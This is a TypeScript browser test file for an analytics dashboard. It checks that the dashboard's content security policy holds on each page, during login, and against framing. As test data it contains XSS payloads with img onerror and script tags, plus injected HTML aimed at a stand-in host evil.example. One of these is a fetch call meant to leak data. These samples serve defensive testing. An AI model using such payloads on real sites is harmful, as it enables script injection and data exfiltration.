// The dashboard in Chromium under its policy: nothing that it does on any of its pages breaks it,
// in light and dark, and what an attacker would do is stopped by it.
import assert from "node:assert/strict";
import { type Browser, browserTest, type Page } from "../support/browser/browser.ts";
import { settled } from "../support/browser/dashboard.ts";
import { type ReadyServer, startReady } from "../support/server/ready_server.ts";
import { withFolder } from "../support/storage/storage.ts";
import { type WatchedPage, watchPage } from "../support/browser/watched_page.ts";
import { until } from "../support/wait.ts";

const PASSWORD = "correct horse";
const USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 " +
  "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
/** Page addresses, names and properties as an attacker would send them. */
const MARKUP = `"><img src=x onerror="document.title='broken'"><script>alert(1)</script>`;
const VIEWS = ["", "behaviour", "realtime", "sites", "settings"];
/** A button that something covers is left out. */
const CLICK_MS_MAX = 500;

async function withServer(
  env: Record<string, string>,
  work: (server: ReadyServer) => Promise<void>,
): Promise<void> {
  await withFolder(async (folder) => {
    const server = await startReady(folder, env);
    try {
      await work(server);
    } finally {
      assert.equal(await server.stop(), 0, server.output());
    }
  });
}

async function send(server: ReadyServer, event: object): Promise<void> {
  const response = await fetch(`${server.url}/api/event`, {
    method: "POST",
    headers: { "user-agent": USER_AGENT, "x-forwarded-for": "8.8.8.8" },
    body: JSON.stringify({ d: "example.com", n: "pageview", u: "/", ...event }),
  });
  assert.equal(response.status, 202);
  await response.body?.cancel();
}

/** Some visits, an attacker's among them. */
async function fill(server: ReadyServer): Promise<void> {
  await send(server, { u: "https://example.com/?utm_source=news", r: "https://www.google.com/" });
  await send(server, { u: "https://example.com/pricing" });
  await send(server, { n: "Order", ra: 29.9, rc: "EUR", p: { plan: "pro" } });
  await send(server, {
    n: MARKUP,
    u: `/${MARKUP}?utm_campaign=${encodeURIComponent(MARKUP)}`,
    r: `https://evil.example/${MARKUP}`,
    p: { [MARKUP]: MARKUP },
  });
}

/** Waits until the page stands, whatever it shows. */
async function drawn(page: Page): Promise<void> {
  await page.waitForSelector("#app > *");
}

/** Presses every button that can be pressed, one after the other, and closes what opened. */
async function pressAll(page: Page): Promise<void> {
  const buttons = page.locator("button:visible:enabled");
  // A press may change how many there are.
  for (let at = 0; at < await buttons.count(); at++) {
    await buttons.nth(at).click({ timeout: CLICK_MS_MAX }).catch(() => {});
    await page.keyboard.press("Escape");
  }
  const chart = page.locator(".uplot, canvas").first();
  if (await chart.isVisible().catch(() => false)) {
    await chart.hover({ timeout: CLICK_MS_MAX }).catch(() => {});
  }
}

function assertClean({ faults, urls }: WatchedPage, server: ReadyServer): void {
  assert.deepEqual(faults, [], server.output());
  assert.deepEqual(urls.filter((url) => !url.startsWith(`${server.url}/`)), []);
}

async function openLook(browser: Browser, colorScheme: "light" | "dark"): Promise<WatchedPage> {
  const viewport = { width: 1280, height: 900 };
  return await watchPage(await browser.newContext({ colorScheme, viewport }));
}

for (const look of ["light", "dark"] as const) {
  browserTest(`the dashboard keeps to its policy on every page, in ${look}`, async (_, browser) => {
    await withServer({}, async (server) => {
      const watched = await openLook(browser, look);
      const { page } = watched;
      await page.goto(`${server.url}/`);
      await drawn(page);
      await fill(server);
      for (const view of VIEWS) {
        const address = `${server.url}/?site=example.com&period=7d${view && `&view=${view}`}`;
        await page.goto(address);
        await settled(page);
        const scheme = await page.evaluate(() =>
          matchMedia("(prefers-color-scheme: dark)").matches
        );
        assert.equal(scheme, look === "dark");
        await pressAll(page);
        await settled(page);
        assert.notEqual(await page.title(), "broken");
        // The import map, what asks for the headline, and what loads a page that is not whole.
        assert.equal(await page.locator("script:not([src])").count(), 3);
      }
      await page.goto(`${server.url}/privacy`);
      assertClean(watched, server);
    });
  });
}

browserTest("logging in and out keeps to the policy, and a wrong password as well", async (
  context,
) => {
  await withServer({ MALLARD_ADMIN_PASSWORD: PASSWORD }, async (server) => {
    await fill(server);
    const watched = await watchPage(context);
    const { page } = watched;
    await page.goto(`${server.url}/`);
    for (const password of ["wrong horse", PASSWORD]) {
      await page.fill("input[type=password]", password);
      const answered = page.waitForResponse(/api\/auth\/login/);
      await page.keyboard.press("Enter");
      await answered;
    }
    await page.waitForSelector("[data-metric]");
    const faults = watched.faults.filter((fault) => !fault.startsWith("server: 401 "));
    assertClean({ ...watched, faults }, server);
  });
});

browserTest("the policy stops what an attacker would put into the page", async (context) => {
  await withServer({}, async (server) => {
    const watched = await watchPage(context);
    const { page } = watched;
    await page.goto(`${server.url}/`);
    await drawn(page);
    assert.deepEqual(watched.faults, []);
    const breaches = () =>
      watched.faults.filter((fault) => fault.startsWith("policy: ")).map((fault) =>
        fault.split(" ")[1]
      );
    const stopped = (directive: string) =>
      until(() => breaches().includes(directive), `a breach of ${directive}`);
    const attempts: readonly [directive: string, html: string][] = [
      ["script-src-attr", `<img src="data:," onerror="document.title='broken'">`],
      ["style-src-attr", `<p style="background: red">x</p>`],
      ["img-src", `<img src="https://evil.example/leak.png">`],
      ["frame-src", `<iframe src="https://evil.example/"></iframe>`],
      ["object-src", `<object data="https://evil.example/x"></object>`],
      ["media-src", `<video src="https://evil.example/x.mp4"></video>`],
      ["form-action", `<form action="https://evil.example/" id="away"></form>`],
      ["base-uri", `<base href="https://evil.example/">`],
    ];
    for (const [directive, html] of attempts) {
      await page.evaluate((text) => {
        const place = document.createElement("div");
        place.innerHTML = text;
        document.body.append(place);
        (document.getElementById("away") as HTMLFormElement | null)?.submit();
      }, html);
      await stopped(directive);
    }
    const scripts: readonly [directive: string, attempt: string][] = [
      [
        "script-src-elem",
        `(() => { const s = document.createElement("script");
        s.textContent = "document.title = 'broken'"; document.body.append(s); })()`,
      ],
      ["connect-src", `fetch("https://evil.example/?leak").catch(() => {})`],
    ];
    for (const [directive, attempt] of scripts) {
      await page.evaluate(attempt);
      await stopped(directive);
    }
    assert.notEqual(await page.title(), "broken");
  });
});

browserTest("no other page can show the dashboard in a frame", async (context) => {
  await withServer({}, async (server) => {
    const { page } = await watchPage(context);
    const elsewhere = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen() {} },
      () =>
        new Response(`<!doctype html><iframe src="${server.url}/"></iframe>`, {
          headers: { "content-type": "text/html" },
        }),
    );
    await page.goto(`http://127.0.0.1:${elsewhere.addr.port}/`);
    const frame = page.frames()[1];
    await frame?.waitForURL("chrome-error://chromewebdata/");
    assert.equal(frame?.url(), "chrome-error://chromewebdata/");
    await elsewhere.shutdown();
  });
});
